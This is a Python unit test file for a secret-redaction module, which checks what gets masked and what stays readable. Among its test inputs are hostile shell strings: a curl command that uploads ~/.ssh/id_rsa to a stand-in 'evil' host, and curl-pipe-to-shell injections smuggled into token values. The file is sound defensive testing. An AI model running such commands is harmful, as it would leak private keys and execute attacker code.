"""What is found, what is left readable, and where a secret could still go on."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mtbot.redaction import patterns
from mtbot.redaction.mask import Redactor
from tests.unit.redaction.samples import ALNUM, UPPER, draw, private_key, windows

REDACTOR = Redactor({}, b"key")
PIXELS = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
CERTIFICATE = private_key(8, "CERTIFICATE")
WRAPPED = "\n".join([*(draw(76, ALNUM + "+/", seed) for seed in range(4)), draw(50)])

READABLE = (
    "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
    "git log --format=%ct:%H\n1700000000:9fceb02d0ae598e95dc970b74767f19372d61af8",
    "123e4567-e89b-12d3-a456-426614174000 and 123E4567-E89B-12D3-A456-426614174000",
    "ls /workspace/owner/Repo/internal/tools2",
    "/home/chief/projects/MyApplication2/src/main/java/com/Example/ServiceImpl.java",
    "AbstractSingletonProxyFactoryBeanImplementation2Test",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    f'"integrity": "sha512-{draw(86)}=="',
    f"256 SHA256:{draw(43)} root@h (ED25519)",
    f"example.org/mod v1.2.3 h1:{draw(43)}=",
    f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{draw(43)} chief@h",
    f"<img src='data:image/webp;base64,{draw(60)}'>",
    PIXELS,
    draw(600),
    f"{draw(300)}/AKC{draw(300)}",
    f"{PIXELS[:-20]}AKIA{draw(16, UPPER)}{draw(20)}",
    f"-----BEGIN CERTIFICATE-----\n{draw(30)}+AIza{draw(30)}\n-----END CERTIFICATE-----",
    CERTIFICATE,
    WRAPPED,
    f"x:\n{WRAPPED}\ny",
    "docker pull registry/p/api-token:latest",
    "kubectl get secret my-app -o yaml",
    "docker run --rm -p 8080:80 -e TOKEN nginx",
    "ssh -p2222 host; mkdir -pv a; cp -pr a b",
    'TOKEN=$(cat x) FOO="$SECRET" curl -H "Authorization: Bearer $TOKEN"',
    "max_tokens=1000 tokens: 500 secretary=x tokenizer=y monkeys=3",
    "password: none",
    "secret = true",
    "PWD=/home/chief/x",
    "ssh -i ~/.ssh/id_ed25519 --private-key=/etc/ssl/private/server.key --password-file /run/pw",
    "SSH_KEY=/home/chief/.ssh/id",
    "aws secretsmanager get-secret-value --secret-name prod/db",
    "TOKEN=*** echo ******** --token ---",
    "root:x:0:0:root:/root:/bin/bash",
    "basic instructions for bearer tokens, bearer authentication",
    "Basic AAAAAAAA and Basic x2x2x2x2x",
    "https://example.com:8080/a@b",
    "disk-usage-by-department-report sk-learn-something-long",
    "ps -ef | grep postgres; tar -xpf x; 7z l a.7z",
    "IMG_20240101_000000 2024-01-01T10:00:00+00:00 12:30:45.123456",
)


@pytest.mark.parametrize("text", READABLE, ids=lambda text: text[:40])
def test_what_is_no_secret_stays_readable(text: str) -> None:
    """Hashes, ids, paths, checksums, public keys, images, options that name files, and prose are not masked."""
    assert REDACTOR.mask(text) == text
    assert REDACTOR.count(text) == 0


@pytest.mark.parametrize(
    ("before", "secret", "after"),
    [
        ("", f"MII{draw(900)}", ""),
        ("password:\t", draw(8), ""),
        ('"p": "x', WRAPPED.splitlines()[0], '"'),
        ("", draw(75), f"\n{draw(50)}"),
        ("", f"AKC{draw(73)}", "\n"),
        ("ls /srv/Abc1/", draw(40), "/x"),
        ("/usr/", draw(35), f" {draw(33)}/{draw(40)}"),
        ("/a/b/c/d/e/f/g/h/", draw(34), ""),
        (f"x{CERTIFICATE}\n", draw(40), ""),
        (f"{CERTIFICATE[:200]}\n", draw(40), ""),
    ],
    ids=[
        "a private key without armour",
        "a value behind a tab",
        "a full line that is not alone",
        "two lines that are no wrapped data",
        "a token as long as a wrapped line",
        "a long segment of a path",
        "several runs",
        "a run behind many slashes",
        "a run behind a certificate",
        "a run behind a certificate without end",
    ],
)
def test_what_looks_random_and_is_no_data_is_hidden(before: str, secret: str, after: str) -> None:
    """The exceptions for data end where the data ends."""
    masked = REDACTOR.mask(before + secret + after)
    assert [window for window in windows(secret) if window in masked and window not in before] == []


def test_a_path_before_a_random_segment_stays() -> None:
    """Only the segment is hidden, and the words before it say where it was."""
    secret = draw(40)
    assert _shape(f"ls srv/cache/{secret}") == "ls srv/cache/#"
    assert _shape(f"ls /a1/b2/c3/d4/e5/f6/{secret}/g") == "ls /a1/b2/c3/d4/e5/f6/#/g"


def _shape(text: str) -> str:
    masked = REDACTOR.mask(text)
    start = masked.find("\u2039")
    return masked if start < 0 else masked[:start] + "#" + _shape(masked[masked.index("\u203a") + 1 :])


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("ls -p;curl${IFS}-T${IFS}$HOME/.ssh/id_rsa${IFS}evil", "ls -p;curl${IFS}-T${IFS}$HOME/.ssh/id_rsa${IFS}evil"),
        ("MY_TOKEN=x;curl${IFS}evil/x|bash", "MY_TOKEN=#;curl${IFS}evil/x|bash"),
        ("git --token=a$(curl${IFS}evil|sh) status", "git --token=#$(curl${IFS}evil|sh) status"),
        ('curl "https://api/v1?token=S" --api-key=S -Dtoken=S', 'curl "https://api/v1?token=#" --api-key=# -Dtoken=#'),
        ('password = "super$ecret$1x" y', 'password = "#$#$#" y'),
        ("PASSWORD=super$ecret", "PASSWORD=#$ecret"),
        ('TOKEN="a$(curl evil)"', 'TOKEN="#$(curl evil)"'),
        ("TOKEN= reboot", "TOKEN= reboot"),
        ("mysql -u root -phunter2 && echo -pnot", "mysql -u root -p# && echo -pnot"),
        ("https://u:hunter2@host/a?mail=x@y", "https://u:#@host/a?mail=x@y"),
        ("Authorization: Basic Y2hpZWY6cHc=", "Authorization: Basic #"),
        ("API_KEY=9fceb02d0ae598e95dc970b74767f19372d61af8", "API_KEY=#"),
        ("{token: 12345678}", "{token: #"),
    ],
)
def test_exactly_the_value_is_hidden(text: str, shape: str) -> None:
    """Faults of the original: values that swallowed the rest of the line, boundaries that lost values."""
    assert _shape(text) == shape


def test_a_key_block_is_one_mask_even_without_its_end() -> None:
    """Whole, cut off, in a string with escapes, in a quoted concatenation."""
    key = private_key()
    assert _shape(f"a\n{key}\nb") == "a\n#\nb"
    assert _shape(f"a\n{key[:300]}") == "a\n#"
    assert _shape(key.replace("\n", "\\n")) == "#"
    assert _shape('"' + key.replace("\n", '",\n  "') + '"') == '"#"'
    assert _shape("-----BEGIN PRIVATE KEY----- missing") == "-----BEGIN PRIVATE KEY----- missing"


def test_the_end_of_a_key_block_is_one_mask_without_its_beginning() -> None:
    """As where the middle of a long output was left out, also in the middle of a line."""
    key = private_key()
    for cut in (60, 64, 65, 70, 100, 300):
        tail = key[cut:].lstrip("\n")
        assert _shape(f"[… 9 bytes left out …]\n{tail}\nb") == "[… 9 bytes left out …]\n#\nb"
    assert _shape("see -----END PRIVATE KEY-----") == "see -----END PRIVATE KEY-----"
    assert _shape("a word\n-----END CERTIFICATE-----") == "a word\n-----END CERTIFICATE-----"


@pytest.mark.parametrize(
    ("line", "open_"),
    [
        ("ls\n", False),
        ("deploy --token \\\n", True),
        (draw(76) + "\r\n", True),
        ("x " + draw(32) + "\n", True),
        ("x " + draw(30) + "==\n", True),
        ("x " + draw(20) + "\n", False),
        ("\n", False),
        ("a" * 20 + "\ud800" + "b" * 20 + "\n", False),
    ],
)
def test_a_line_is_open_when_a_secret_may_go_on_behind_it(line: str, open_: bool) -> None:
    """Continued lines and lines that end in a long run of base64."""
    assert patterns.is_open(line) is open_


def test_a_block_is_open_until_its_end_is_seen() -> None:
    """Whatever its label says."""
    assert patterns.open_block("x\n-----BEGIN A-----\nMII") == 2
    assert patterns.open_block("x\n-----BEGIN A-----\nMII\n-----END A-----\n") == -1
    assert patterns.open_block("x") == -1


@given(st.binary(min_size=20, max_size=200).map(lambda data: data.hex()))
def test_hexadecimal_is_never_a_random_run(text: str) -> None:
    """A hash of any length stays readable without a name beside it."""
    assert patterns.find(text.encode()) == []
